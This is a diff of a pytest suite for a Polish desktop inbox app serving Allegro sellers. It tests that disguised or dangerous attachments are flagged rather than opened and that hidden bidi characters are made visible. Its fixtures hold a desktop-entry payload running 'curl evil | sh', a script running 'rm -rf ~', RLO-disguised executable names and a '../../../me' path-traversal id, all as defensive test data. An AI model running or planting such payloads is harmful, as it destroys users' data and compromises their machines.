@@ -10,14 +10,26 @@ from typing import Any, Callable
 import pytest
 from PySide6.QtWidgets import QLabel, QMessageBox, QPushButton
 
-from magazyn_desktop.app_context import AppContext
+from ui_sample_data import (
+    ANNA,
+    ANNA_ATTACHMENT,
+    PNG_BYTES,
+    add_thread,
+    attachment,
+    message,
+    sync_into_cache,
+    thread_id,
+    uuid_of,
+)
+
+from magazyn_desktop.app.context import AppContext
+from magazyn_desktop.fake_allegro import DemoAllegro, DisguisedFile
 from magazyn_desktop.paths import AppPaths
 from magazyn_desktop.store.db import connect
 from magazyn_desktop.store.inbox_queries import Filter
 from magazyn_desktop.ui.attachments import assess_download
 from magazyn_desktop.ui.conversation_list_model import ROW_ROLE, ConversationListModel
 from magazyn_desktop.ui.visible_text import visible_controls
-from ui_sample_data import PNG_BYTES, FakeBackend, insert_conversation, insert_message
 
 PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
 JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
@@ -25,6 +37,8 @@ EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
 DESKTOP_ENTRY = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\nName=zdjecie\n"
 SCRIPT = b"#!/bin/sh\nrm -rf ~\n"
 RLO = "\u202e"
+BIDI = thread_id("annaBidi")
+DOWNLOAD_REQUEST = "GET /messaging/message-attachments/{id}"
 
 
 @pytest.mark.parametrize(("name", "content", "declared", "saved_as", "opened"), [
@@ -63,7 +77,7 @@ def test_visible_controls_marks_every_bidi_control() -> None:
 
 def _download(qtbot: Any, window: Any) -> Path:
     with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
-        window.open_conversation("thread-anna")
+        window.open_conversation(ANNA)
     attachment = window.conversation_view().detail.messages[1].attachments[0]
     with qtbot.waitSignal(window.attachment_saved, timeout=5000) as blocker:
         window.conversation_view().attachment_requested.emit(attachment)
@@ -82,9 +96,9 @@ def _settle(qtbot: Any, window: Any) -> None:
     (EXE, f"faktura{RLO}gpj.exe", "image/jpeg"),
 ])
 def test_a_risky_attachment_is_kept_and_shown_in_its_folder(qtbot: Any, make_window: Callable[..., Any],
-                                                            fake_backend: FakeBackend, context: AppContext,
+                                                            fake_allegro: DemoAllegro, context: AppContext,
                                                             content: bytes, name: str, declared: str | None) -> None:
-    fake_backend.client.download = (content, name, declared)
+    fake_allegro.faults.disguised_download = DisguisedFile(name, content, declared)
     window = make_window()
     opened: list[Path] = []
     folders: list[Path] = []
@@ -110,50 +124,48 @@ def test_a_safe_attachment_is_opened_directly(qtbot: Any, make_window: Callable[
     opened: list[Path] = []
     window.open_file = opened.append
     path = _download(qtbot, window)
-    assert opened == [path] and path.name == "zdjecie.png"
+    assert opened == [path] and path.name == "zdjęcie paczki.jpg"
     assert window.findChild(QMessageBox, "attachmentWarning") is None
     _settle(qtbot, window)
 
 
 def test_a_hostile_attachment_id_never_reaches_allegro(qtbot: Any, make_window: Callable[..., Any],
-                                                       fake_backend: FakeBackend, sample_paths: AppPaths) -> None:
-    from magazyn_desktop.allegro.ids import checked_id
-
-    db = sqlite3.connect(sample_paths.database)
-    db.execute("UPDATE attachments SET remote_id='../../../me' WHERE message_id='m-anna-2'")
+                                                       fake_allegro: DemoAllegro, sample_paths: AppPaths) -> None:
+    window = make_window()
+    db = sqlite3.connect(sample_paths.database)  # as if a damaged cache or a hostile answer had stored it
+    db.execute("UPDATE attachments SET remote_id='../../../me' WHERE remote_id=?", (ANNA_ATTACHMENT,))
     db.commit()
     db.close()
-    fake_backend.client.download_attachment = lambda kind, attachment_id: (checked_id(attachment_id, "attachment"),)
-    window = make_window()
     opened: list[Path] = []
     window.open_file = opened.append
     with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
-        window.open_conversation("thread-anna")
+        window.open_conversation(ANNA)
+    _settle(qtbot, window)
+    asked = fake_allegro.request_counts()
     attachment = window.conversation_view().detail.messages[1].attachments[0]
     with qtbot.waitSignal(window.user_message, timeout=5000) as blocker:
         window.conversation_view().attachment_requested.emit(attachment)
     assert "załącznik" in blocker.args[0].lower()
     assert opened == [] and not any(window._paths.attachments.glob("*"))
     _settle(qtbot, window)
+    assert fake_allegro.request_counts() == asked  # not even a request to /me
 
 
-def _with_bidi_conversation(paths: AppPaths) -> None:
-    db = sqlite3.connect(paths.database)
-    insert_conversation(db, "thread-bidi", login=f"ann{RLO}a_k", minutes_ago=1, snippet=f"Zwrot {RLO}gpj.exe")
-    insert_message(db, "m-bidi-1", "thread-bidi", f"Zobacz plik {RLO}gpj.exe\u2066x\u2069", minutes_ago=1,
-                   login=f"ann{RLO}a_k")
-    db.execute("INSERT INTO attachments (message_id, remote_id, file_name, mime_type) "
-               f"VALUES ('m-bidi-1', 'att-9', 'zdj{RLO}gpj.exe', 'image/jpeg')")
-    db.commit()
-    db.close()
+def _with_bidi_conversation(fake: DemoAllegro) -> None:
+    data = fake.data
+    login = f"ann{RLO}a_k"
+    named = attachment(data, uuid_of(0xB1D1), f"zdj{RLO}gpj.exe", "image/jpeg")
+    add_thread(data, BIDI, login, [
+        message(data, f"Zobacz plik {RLO}gpj.exe\u2066x\u2069", 1, login, attachments=[named]),
+    ], read=False)
 
 
 def test_conversation_view_shows_bidi_controls(qtbot: Any, make_window: Callable[..., Any],
-                                              sample_paths: AppPaths) -> None:
-    _with_bidi_conversation(sample_paths)
+                                              fake_allegro: DemoAllegro) -> None:
+    _with_bidi_conversation(fake_allegro)
     window = make_window()
     with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
-        window.open_conversation("thread-bidi")
+        window.open_conversation(BIDI)
     view = window.conversation_view()
     assert view.message_texts() == ["Zobacz plik ⟨U+202E⟩gpj.exe⟨U+2066⟩x⟨U+2069⟩"]
     shown = [label.text() for label in view.findChildren(QLabel)]
@@ -167,14 +179,15 @@ def test_conversation_view_shows_bidi_controls(qtbot: Any, make_window: Callable
     _settle(qtbot, window)
 
 
-def test_list_rows_show_bidi_controls(qtbot: Any, sample_paths: AppPaths) -> None:
+def test_list_rows_show_bidi_controls(qtbot: Any, sample_paths: AppPaths, fake_allegro: DemoAllegro) -> None:
     from PySide6.QtCore import Qt
 
-    _with_bidi_conversation(sample_paths)
+    _with_bidi_conversation(fake_allegro)
+    sync_into_cache(sample_paths, fake_allegro)
     model = ConversationListModel(lambda: connect(sample_paths.database, read_only=True))
     model.set_query(Filter.ALL, "")
     index = next(model.index(r, 0) for r in range(model.rowCount())
-                 if model.index(r, 0).data(ROW_ROLE).id == "thread-bidi")
+                 if model.index(r, 0).data(ROW_ROLE).id == BIDI)
     texts = [index.data(role) for role in (Qt.ItemDataRole.DisplayRole, Qt.ItemDataRole.ToolTipRole,
                                            Qt.ItemDataRole.AccessibleTextRole)]
     assert all(RLO not in text and "⟨U+202E⟩" in text for text in texts), texts
@@ -184,12 +197,16 @@ def test_list_rows_show_bidi_controls(qtbot: Any, sample_paths: AppPaths) -> Non
 def test_order_panel_shows_bidi_controls_in_what_the_buyer_typed(qtbot: Any) -> None:
     from dataclasses import replace
 
+    from magazyn_desktop.domain.records import LineItem, Order, Shipment
     from magazyn_desktop.ui.order_panel import OrderPanel
-    from ui_sample_data import sample_order
 
     panel = OrderPanel()
     qtbot.addWidget(panel)
-    order = sample_order("order-1001")
+    order = Order(id=uuid_of(0x1001), buyer_login="anna_k", status="READY_FOR_PROCESSING", fulfillment_status="SENT",
+                  delivery_method="Allegro Paczkomaty InPost",
+                  line_items=(LineItem(offer_id="1", name="Kubek ceramiczny 300 ml", sku="KUB-300-BIA",
+                                       quantity=2),),
+                  shipments=(Shipment(waybill="620999888777666555444333", carrier="INPOST"),))
     item = replace(order.line_items[0], name=f"Kubek {RLO}gpj.exe")
     panel.show_order(replace(order, message_to_seller=f"Proszę {RLO}odnapaz", line_items=(item,)))
     texts = [label.text() for label in panel.findChildren(QLabel)]
@@ -209,29 +226,30 @@ def test_tray_notifications_show_bidi_controls() -> None:
 
 @pytest.mark.qt_log_ignore("This plugin does not support propagateSizeHints")  # offscreen platform, dialogs
 def test_a_saved_copy_is_checked_like_a_download(qtbot: Any, make_window: Callable[..., Any],
-                                                 fake_backend: FakeBackend, sample_paths: AppPaths,
+                                                 fake_allegro: DemoAllegro, sample_paths: AppPaths,
                                                  tmp_path: Path) -> None:
+    window = make_window()
     kept = tmp_path / "kopie" / "faktura.pdf.exe"
     kept.parent.mkdir()
     kept.write_bytes(EXE)
     db = sqlite3.connect(sample_paths.database)
-    db.execute("UPDATE attachments SET local_path=? WHERE message_id='m-anna-2'", (str(kept),))
+    db.execute("UPDATE attachments SET local_path=? WHERE remote_id=?", (str(kept), ANNA_ATTACHMENT))
     db.commit()
     db.close()
-    window = make_window()
     opened: list[Path] = []
     folders: list[Path] = []
     window.open_file = opened.append
     window.open_folder = folders.append
     with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
-        window.open_conversation("thread-anna")
+        window.open_conversation(ANNA)
     attachment = window.conversation_view().detail.messages[1].attachments[0]
     window.conversation_view().attachment_requested.emit(attachment)
     box = window.findChild(QMessageBox, "attachmentWarning")
-    assert box is not None and opened == [] and fake_backend.client.attachments_asked == []
+    assert box is not None and opened == []
     box.findChild(QPushButton, "showInFolder").click()
     assert folders == [kept.parent]
     _settle(qtbot, window)
+    assert DOWNLOAD_REQUEST not in fake_allegro.request_counts()  # the saved copy, not a new download
 
 
 def test_tray_notifications_never_carry_markup_a_linux_notification_server_would_render(
